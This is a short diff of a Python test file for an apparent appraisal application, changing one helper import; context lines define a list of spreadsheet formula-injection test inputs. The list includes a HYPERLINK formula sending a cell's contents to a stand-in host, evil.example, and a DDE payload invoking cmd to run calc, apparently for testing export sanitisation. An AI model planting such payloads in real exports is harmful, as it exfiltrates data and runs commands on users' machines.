@@ -20,7 +20,7 @@ from appraisal.tenants.cycles.models import Appraisee, Cycle, Phase, Population
 from appraisal.tenants.org.models import OrgUnit, Person
 from appraisal.tenants.results import services as results
 from appraisal.tenants.scoring.models import AdjustmentClaim, Veto
-from tests.conftest import login
+from tests.helpers import login
 
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
         "\t=1+1", "＝1+1"]
